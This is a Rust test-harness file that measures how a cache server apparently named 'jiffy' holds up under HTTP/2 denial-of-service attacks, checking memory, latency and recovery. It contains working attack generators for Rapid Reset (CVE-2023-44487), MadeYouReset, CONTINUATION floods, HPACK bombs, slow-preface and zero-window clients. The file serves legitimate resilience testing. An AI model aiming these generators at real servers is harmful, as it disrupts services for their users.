/// The figures of one attack, and what went wrong.
pub struct Outcome {
    pub name: String,
    pub idle: u64,
    pub peak: u64,
    pub killed_by_cap: bool,
    pub alive: bool,
    pub latencies: Vec<Duration>,
    pub failures: Vec<String>,
    pub newcomer_latencies: Vec<Duration>,
    pub newcomer_failures: Vec<String>,
    pub stats: Arc<Stats>,
    /// The server's metrics text after the attack (empty if it is gone).
    pub metrics: String,
    pub problems: Vec<String>,
}

fn mib(bytes: u64) -> f64 {
    bytes as f64 / MIB as f64
}

fn ms(d: Duration) -> f64 {
    d.as_secs_f64() * 1000.0
}

impl Outcome {
    /// Records a problem unless `ok`.
    pub fn require(&mut self, ok: bool, problem: impl Into<String>) {
        if !ok {
            self.problems.push(problem.into());
        }
    }

    pub fn quantile(&self, q: f64) -> Option<Duration> {
        quantile(&self.latencies, q)
    }

    /// The sum of the `jiffy_connections_closed_total` series whose reason
    /// contains one of `reasons` (None: the server has no such metric).
    pub fn connections_closed(&self, reasons: &[&str]) -> Option<f64> {
        closed_total(&self.metrics, reasons)
    }

    /// Requires the server to have counted at least one connection it
    /// closed for one of `reasons` (substrings of the `reason` label of
    /// `jiffy_connections_closed_total`, e.g. "handshake_timeout").
    pub fn require_closes_counted(&mut self, reasons: &[&str]) {
        let closed = self.connections_closed(reasons);
        self.require(
            closed.is_some_and(|n| n > 0.0),
            format!(
                "the server counted no connection closed for {reasons:?}: jiffy_connections_closed_total = {closed:?}"
            ),
        );
    }

    /// One line with every figure.
    pub fn line(&self) -> String {
        let q = |q: f64| {
            self.quantile(q)
                .map_or("-".to_owned(), |d| format!("{:.2}", ms(d)))
        };
        let slowest_newcomer = self
            .newcomer_latencies
            .iter()
            .max()
            .map_or("-".to_owned(), |d| format!("{:.1} ms", ms(*d)));
        let closed: Vec<String> = self
            .metrics
            .lines()
            .filter(|l| l.starts_with("jiffy_connections_closed_total") && !l.ends_with(" 0"))
            .map(|l| {
                l.trim_start_matches("jiffy_connections_closed_total")
                    .to_owned()
            })
            .collect();
        format!(
            "ATTACK {} | {} | idle {:.1} MiB | peak {:.1} MiB (+{:.1}){} | normal p50 {} ms p99 {} ms max {} ms, {} ok, {} failed | newcomers {} ok, {} failed, slowest {} | closed {} | {}",
            self.name,
            if self.problems.is_empty() { "PASS" } else { "FAIL" },
            mib(self.idle),
            mib(self.peak),
            mib(self.peak.saturating_sub(self.idle)),
            if self.killed_by_cap { " KILLED AT SAFETY CAP" } else { "" },
            q(0.5),
            q(0.99),
            q(1.0),
            self.latencies.len(),
            self.failures.len(),
            self.newcomer_latencies.len(),
            self.newcomer_failures.len(),
            slowest_newcomer,
            if self.metrics.contains("jiffy_connections_closed_total") {
                closed.join(" ")
            } else {
                "(no metric)".to_owned()
            },
            self.stats.summary(),
        )
    }

    /// Prints the line (and problems) and fails the test on any problem.
    pub fn assert_bounded(self) {
        eprintln!("{}", self.line());
        for problem in &self.problems {
            eprintln!("    {}: {problem}", self.name);
        }
        assert!(
            self.problems.is_empty(),
            "{}: {}",
            self.name,
            self.problems.join("; ")
        );
    }
}

pub fn quantile(sorted: &[Duration], q: f64) -> Option<Duration> {
    if sorted.is_empty() {
        return None;
    }
    Some(sorted[((sorted.len() - 1) as f64 * q).round() as usize])
}

/// The sum of the `jiffy_connections_closed_total` series in `metrics`
/// whose `reason` label contains one of `reasons`.
pub fn closed_total(metrics: &str, reasons: &[&str]) -> Option<f64> {
    let series: Vec<&str> = metrics
        .lines()
        .filter(|l| l.starts_with("jiffy_connections_closed_total"))
        .collect();
    if series.is_empty() {
        return None;
    }
    let reason_of = |line: &str| {
        let (_, rest) = line.split_once("reason=\"")?;
        rest.split_once('"').map(|(reason, _)| reason.to_owned())
    };
    Some(
        series
            .iter()
            .filter(|l| reason_of(l).is_some_and(|r| reasons.iter().any(|want| r.contains(want))))
            .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
            .sum(),
    )
}

/// The metrics text, or empty if the server does not answer in 2 s.
pub async fn try_scrape(addr: Option<SocketAddr>) -> String {
    let Some(addr) = addr else {
        return String::new();
    };
    let fetch = async {
        let mut stream = TcpStream::connect(addr).await.ok()?;
        stream
            .write_all(b"GET /metrics HTTP/1.0\r\nHost: localhost\r\n\r\n")
            .await
            .ok()?;
        let mut response = String::new();
        stream.read_to_string(&mut response).await.ok()?;
        response
            .split_once("\r\n\r\n")
            .map(|(_, body)| body.to_owned())
    };
    tokio::time::timeout(Duration::from_secs(2), fetch)
        .await
        .ok()
        .flatten()
        .unwrap_or_default()
}

/// One series of the server's metrics, if it answers.
pub async fn try_metric(target: &Target, series: &str) -> Option<f64> {
    sample(&try_scrape(target.server.metrics_addr).await, series)
}

/// Runs `attack` against `target` for `attack_time()` while the normal
/// client, the newcomers and the sampler run; returns the figures with the
/// common checks done (alive, memory, normal calls, newcomers, a client
/// answered afterwards). The caller may add checks, then `assert_bounded`.
pub async fn run<F, Fut>(target: &mut Target, name: &str, attack: F) -> Outcome
where
    F: FnOnce(Ctx) -> Fut,
    Fut: Future<Output = ()> + Send + 'static,
{
    run_for(target, name, attack_time(), attack).await
}

/// [`run`] for `length` instead of `attack_time()`: for an attack whose
/// checks need more time than the short version gives.
pub async fn run_for<F, Fut>(
    target: &mut Target,
    name: &str,
    length: Duration,
    attack: F,
) -> Outcome
where
    F: FnOnce(Ctx) -> Fut,
    Fut: Future<Output = ()> + Send + 'static,
{
    let recording = Arc::new(AtomicBool::new(false));
    let may_miss = target.small_key_may_be_evicted;
    let normal = Client::normal(
        target.transport.endpoint(target.server.addr),
        recording.clone(),
        may_miss,
    );
    // Warm up: the normal connection made and some calls answered.
    let warm_until = Instant::now() + Duration::from_secs(10);
    while normal.calls.load(Ordering::Relaxed) < 50 && Instant::now() < warm_until {
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    let pid = target.server.child.id();
    let idle = resident_of(pid).expect("the server is running before the attack");

    let stop = Arc::new(AtomicBool::new(false));
    let stats = Arc::new(Stats::default());
    let ctx = Ctx {
        addr: target.server.addr,
        protosocket: target.server.protosocket_addr,
        scheme: target.transport.scheme,
        connect: target.transport.raw.clone(),
        deadline: tokio::time::Instant::now() + length,
        stop: stop.clone(),
        stats: stats.clone(),
    };
    let sampler = Sampler::start(pid, idle, stop.clone());
    recording.store(true, Ordering::Relaxed);
    let newcomers = Client::newcomers(target.transport.endpoint(target.server.addr), may_miss);

    let mut problems = Vec::new();
    let attacking = tokio::spawn(attack(ctx));
    let abort = attacking.abort_handle();
    if tokio::time::timeout(length + Duration::from_secs(20), attacking)
        .await
        .is_err()
    {
        stop.store(true, Ordering::Relaxed);
        abort.abort();
        problems.push("the attack did not stop 20 s after its time".to_owned());
    }
    let newcomers = newcomers.finish();
    tokio::time::sleep(COOL_DOWN).await;
    recording.store(false, Ordering::Relaxed);
    let normal = normal.finish();
    let (peak, killed_by_cap) = sampler.finish();

    let alive = target.server.child.try_wait().unwrap().is_none();
    let metrics = try_scrape(target.server.metrics_addr).await;
    let mut latencies = normal.latencies;
    latencies.sort();
    let mut newcomer_latencies = newcomers.latencies;
    newcomer_latencies.sort();
    let mut outcome = Outcome {
        name: format!("{name} [{}]", target.transport.name),
        idle,
        peak,
        killed_by_cap,
        alive,
        latencies,
        failures: normal.failures,
        newcomer_latencies,
        newcomer_failures: newcomers.failures,
        stats,
        metrics,
        problems,
    };
    outcome.require(alive, "the server process died");
    outcome.require(
        !killed_by_cap,
        format!(
            "resident memory passed the safety cap of {} MiB above idle; the test killed the server",
            SAFETY_CAP_ABOVE_IDLE / MIB
        ),
    );
    outcome.require(
        peak <= idle + target.rss_bound,
        format!(
            "peak resident memory {:.1} MiB is more than {} MiB above idle ({:.1} MiB)",
            mib(peak),
            target.rss_bound / MIB,
            mib(idle)
        ),
    );
    let failures = outcome.failures.len();
    let first = outcome.failures.first().cloned();
    outcome.require(
        failures == 0,
        format!("{failures} normal calls failed, first: {first:?}"),
    );
    outcome.require(
        !outcome.latencies.is_empty(),
        "the normal client made no call",
    );
    if let Some(p99) = outcome.quantile(0.99) {
        outcome.require(
            p99 <= NORMAL_P99_BOUND,
            format!(
                "normal-call p99 {:.1} ms is over {NORMAL_P99_BOUND:?}",
                ms(p99)
            ),
        );
    }
    let failures = outcome.newcomer_failures.len();
    let first = outcome.newcomer_failures.first().cloned();
    outcome.require(
        failures == 0,
        format!(
            "{failures} newcomers were not answered within {NEWCOMER_LIMIT:?}, first: {first:?}"
        ),
    );
    if alive {
        // Served again afterwards, on a new connection.
        let endpoint = target.transport.endpoint(target.server.addr);
        let after = async {
            let channel = endpoint.connect().await.map_err(|e| e.to_string())?;
            get_small(&mut ScsClient::new(channel), may_miss).await
        };
        let answered = tokio::time::timeout(Duration::from_secs(5), after).await;
        outcome.require(
            matches!(answered, Ok(Ok(()))),
            format!("a new client was not answered within 5 s after the attack: {answered:?}"),
        );
    }
    outcome
}

// ---------------------------------------------------------------------------
// The attacks, shared by tests/attacks.rs and tests/attacks_tls.rs.

/// Which frame makes the server reset the stream a valid Get opened
/// ("MadeYouReset", CVE-2025-8671).
#[derive(Clone, Copy, Debug)]
pub enum ServerReset {
    /// WINDOW_UPDATE with increment 0 on the stream.
    ZeroWindowUpdate,
    /// PRIORITY making the stream depend on itself.
    SelfPriority,
}

/// Rapid Reset (CVE-2023-44487): HEADERS of a Get, then RST_STREAM at once,
/// stream after stream, on `connections` connections that read.
pub async fn rapid_reset(ctx: Ctx, connections: usize) {
    let block = ctx.request_block("Get");
    let batch: Batch = Arc::new(move |state| {
        let mut bytes = Vec::with_capacity(64 * (block.len() + 30));
        for _ in 0..64 {
            let id = state.stream();
            bytes.extend(raw::frame(raw::HEADERS, raw::FLAG_END_HEADERS, id, &block));
            bytes.extend(raw::rst_stream(id, raw::CANCEL));
        }
        bytes
    });
    flood(&ctx, connections, true, &[], batch).await;
}

/// MadeYouReset: HEADERS of a Get without END_STREAM, then a frame the
/// server must answer by resetting that stream, stream after stream.
pub async fn made_you_reset(ctx: Ctx, how: ServerReset, reading: bool, connections: usize) {
    let block = ctx.request_block("Get");
    let batch: Batch = Arc::new(move |state| {
        let mut bytes = Vec::with_capacity(64 * (block.len() + 30));
        for _ in 0..64 {
            let id = state.stream();
            bytes.extend(raw::frame(raw::HEADERS, raw::FLAG_END_HEADERS, id, &block));
            bytes.extend(match how {
                ServerReset::ZeroWindowUpdate => raw::window_update(id, 0),
                ServerReset::SelfPriority => raw::priority(id, id, 16),
            });
        }
        bytes
    });
    flood(&ctx, connections, reading, &[], batch).await;
}

/// PRIORITY frames alone, each on a new stream depending on itself: no
/// stream is ever opened, and each is a stream error the server answers
/// with RST_STREAM.
pub async fn self_priority_only(ctx: Ctx, reading: bool, connections: usize) {
    let batch: Batch = Arc::new(move |state| {
        let mut bytes = Vec::with_capacity(256 * 14);
        for _ in 0..256 {
            let id = state.stream();
            bytes.extend(raw::priority(id, id, 16));
        }
        bytes
    });
    flood(&ctx, connections, reading, &[], batch).await;
}

/// CONTINUATION flood: HEADERS without END_HEADERS, then CONTINUATION
/// frames of header fields, never the end of the block.
pub async fn continuation_flood(ctx: Ctx, connections: usize) {
    let block = ctx.request_block("Get");
    let mut fields = Vec::new();
    for _ in 0..15 {
        raw::hpack_literal(&mut fields, b"x-continued", &[b'c'; 1000]);
    }
    let batch: Batch = Arc::new(move |state| {
        let mut bytes = Vec::new();
        if state.batches == 0 {
            let id = state.stream();
            bytes.extend(raw::frame(raw::HEADERS, 0, id, &block));
        }
        for _ in 0..16 {
            bytes.extend(raw::frame(raw::CONTINUATION, 0, 1, &fields));
        }
        bytes
    });
    flood(&ctx, connections, true, &[], batch).await;
}

/// A connection-level flood: `frame` again and again on `connections`
/// connections that read and as many that never read.
pub async fn frame_flood(ctx: Ctx, connections: usize, frame: Vec<u8>) {
    let batch: Batch = Arc::new(move |_| frame.repeat(128));
    let reading = flood(&ctx, connections, true, &[], batch.clone());
    let not_reading = flood(&ctx, connections, false, &[], batch);
    tokio::join!(reading, not_reading);
}

/// HPACK expansion: a 4,000-byte header put in the server's dynamic table
/// once per connection, then referenced by its 1-byte index some 16,000
/// times in every request's header block (64 MB of header list each).
pub async fn hpack_bomb(ctx: Ctx, connections: usize) {
    let block = ctx.request_block("Get");
    let batch: Batch = Arc::new(move |state| {
        let id = state.stream();
        let mut fields = block.clone();
        if state.batches == 0 {
            raw::hpack_literal_indexed(&mut fields, b"x-bomb", &[b'b'; 4000]);
        }
        while fields.len() < 16_384 {
            raw::hpack_indexed(&mut fields, raw::HPACK_FIRST_DYNAMIC_INDEX);
        }
        raw::frame(
            raw::HEADERS,
            raw::FLAG_END_HEADERS | raw::FLAG_END_STREAM,
            id,
            &fields,
        )
    });
    flood(&ctx, connections, true, &[], batch).await;
}

/// Requests whose header list is `size` bytes over (a `x-big` header),
/// in a HEADERS frame and CONTINUATION frames, request after request.
pub async fn oversized_headers(ctx: Ctx, connections: usize, size: usize) {
    let mut block = ctx.request_block("Get");
    raw::hpack_literal(&mut block, b"x-big", &vec![b'h'; size]);
    let batch: Batch = Arc::new(move |state| {
        let id = state.stream();
        let chunks: Vec<&[u8]> = block.chunks(16_384).collect();
        let mut bytes = Vec::with_capacity(block.len() + 9 * chunks.len());
        for (i, chunk) in chunks.iter().enumerate() {
            let last = if i + 1 == chunks.len() {
                raw::FLAG_END_HEADERS
            } else {
                0
            };
            if i == 0 {
                bytes.extend(raw::frame(
                    raw::HEADERS,
                    raw::FLAG_END_STREAM | last,
                    id,
                    chunk,
                ));
            } else {
                bytes.extend(raw::frame(raw::CONTINUATION, last, id, chunk));
            }
        }
        bytes
    });
    flood(&ctx, connections, true, &[], batch).await;
}

/// Clients that send the preface one byte per second; the server closing
/// one is counted and it is replaced.
pub async fn slow_preface(ctx: Ctx, connections: usize) {
    let tasks: Vec<_> = (0..connections)
        .map(|_| {
            let ctx = ctx.clone();
            tokio::spawn(async move {
                while !ctx.over() {
                    let Some(io) = ctx.open(Duration::from_secs(2)).await else {
                        ctx.pause(Duration::from_millis(100)).await;
                        continue;
                    };
                    let (mut read, mut write) = tokio::io::split(io);
                    let mut trickle = raw::PREFACE.to_vec();
                    trickle.extend(raw::settings(&[]));
                    let trickling = async {
                        for byte in &trickle {
                            if write.write_all(std::slice::from_ref(byte)).await.is_err() {
                                return;
                            }
                            Stats::count(&ctx.stats.bytes_sent, 1);
                            tokio::time::sleep(Duration::from_secs(1)).await;
                        }
                        std::future::pending::<()>().await;
                    };
                    let mut buf = [0u8; 4096];
                    let closed = async {
                        loop {
                            match read.read(&mut buf).await {
                                Ok(0) | Err(_) => return,
                                Ok(_) => {}
                            }
                        }
                    };
                    tokio::select! {
                        () = trickling => Stats::count(&ctx.stats.closed_by_server, 1),
                        () = closed => Stats::count(&ctx.stats.closed_by_server, 1),
                        () = tokio::time::sleep_until(ctx.deadline) => {}
                    }
                }
            })
        })
        .collect();
    for task in tasks {
        let _ = task.await;
    }
}

/// `count` connections that never send a byte, held until the attack
/// ends: one the server closes is counted and replaced by a new one; one
/// still open `close_within` after it was opened is counted in
/// `outlived`. They are opened `PARALLEL` at a time (a listen backlog may
/// be as short as 128), each connect given until the attack ends (a SYN
/// dropped is sent again after 1 s, 3 s, 7 s).
pub async fn silent_connections(ctx: Ctx, count: usize, close_within: Option<Duration>) {
    const PARALLEL: usize = 100;
    let permits = Arc::new(tokio::sync::Semaphore::new(PARALLEL));
    let tasks: Vec<_> = (0..count)
        .map(|_| {
            let ctx = ctx.clone();
            let permits = permits.clone();
            tokio::spawn(async move {
                while !ctx.over() {
                    let permit = permits.acquire().await.unwrap();
                    if ctx.over() {
                        return;
                    }
                    let opened = ctx.open(Duration::from_secs(10)).await;
                    drop(permit);
                    let Some(mut io) = opened else { continue };
                    // What the server sends (its SETTINGS, a TLS alert) is
                    // read and ignored; only its close counts.
                    let closed = async {
                        let mut buf = [0u8; 1024];
                        while let Ok(n) = io.read(&mut buf).await {
                            if n == 0 {
                                break;
                            }
                        }
                    };
                    tokio::pin!(closed);
                    if let Some(limit) = close_within {
                        tokio::select! {
                            () = &mut closed => {
                                Stats::count(&ctx.stats.closed_by_server, 1);
                                continue;
                            }
                            () = tokio::time::sleep_until(ctx.deadline) => return,
                            () = tokio::time::sleep(limit) => Stats::count(&ctx.stats.outlived, 1),
                        }
                    }
                    tokio::select! {
                        () = closed => Stats::count(&ctx.stats.closed_by_server, 1),
                        () = tokio::time::sleep_until(ctx.deadline) => return,
                    }
                }
            })
        })
        .collect();
    for task in tasks {
        let _ = task.await;
    }
}

/// Connection churn: connect, handshake, close, again and again, from
/// `parallel` tasks.
pub async fn churn(ctx: Ctx, parallel: usize) {
    let tasks: Vec<_> = (0..parallel)
        .map(|_| {
            let ctx = ctx.clone();
            tokio::spawn(async move {
                while !ctx.over() {
                    let Some(mut io) = ctx.open(Duration::from_secs(2)).await else {
                        ctx.pause(Duration::from_millis(10)).await;
                        continue;
                    };
                    let mut hello = raw::PREFACE.to_vec();
                    hello.extend(raw::settings(&[]));
                    let handshake = async {
                        io.write_all(&hello).await?;
                        loop {
                            match raw::read_frame_from(&mut io).await? {
                                Some(f)
                                    if f.kind == raw::SETTINGS && f.flags & raw::FLAG_ACK == 0 =>
                                {
                                    break
                                }
                                Some(_) => {}
                                None => return Err(io::ErrorKind::UnexpectedEof.into()),
                            }
                        }
                        io.write_all(&raw::frame(raw::SETTINGS, raw::FLAG_ACK, 0, &[]))
                            .await?;
                        io.shutdown().await
                    };
                    if tokio::time::timeout(Duration::from_secs(2), handshake)
                        .await
                        .is_err()
                    {
                        Stats::count(&ctx.stats.closed_by_server, 1);
                    }
                }
            })
        })
        .collect();
    for task in tasks {
        let _ = task.await;
    }
}

/// Zero-window clients: `connections` h2 connections advertising
/// `initial_window` (0, or the default 65,535 never raised), each asking
/// `streams` Gets of the `BIG_VALUE_SIZE` value and never reading an answer.
/// h2 answers the server's PINGs: keepalive does not catch them.
pub async fn zero_window(ctx: Ctx, connections: usize, streams: usize, initial_window: u32) {
    let mut builder = h2::client::Builder::new();
    builder.initial_window_size(initial_window);
    hold_streams(
        &ctx,
        connections,
        streams,
        builder,
        "Get",
        get_message(BIG_KEY),
        true,
    )
    .await;
}

/// Half-sent request bodies: `connections` x `streams` Set calls of a
/// `value_size` value each send half of the framed request, then nothing.
pub async fn half_sent_bodies(ctx: Ctx, connections: usize, streams: usize, value_size: usize) {
    let set = SetRequest {
        cache_key: Bytes::from_static(b"half-sent"),
        cache_body: Bytes::from(vec![b'h'; value_size]),
        ttl_milliseconds: 60_000,
    };
    let framed = Bytes::from(raw::grpc_message(&set.encode_to_vec()));
    let half = framed.slice(..framed.len() / 2);
    hold_streams(
        &ctx,
        connections,
        streams,
        h2::client::Builder::new(),
        "Set",
        half,
        false,
    )
    .await;
}

/// Requests whose body never starts: HEADERS of a Set, no DATA, `streams`
/// on each of `connections` connections.
pub async fn headers_without_data(ctx: Ctx, connections: usize, streams: usize) {
    hold_streams(
        &ctx,
        connections,
        streams,
        h2::client::Builder::new(),
        "Set",
        Bytes::new(),
        false,
    )
    .await;
}
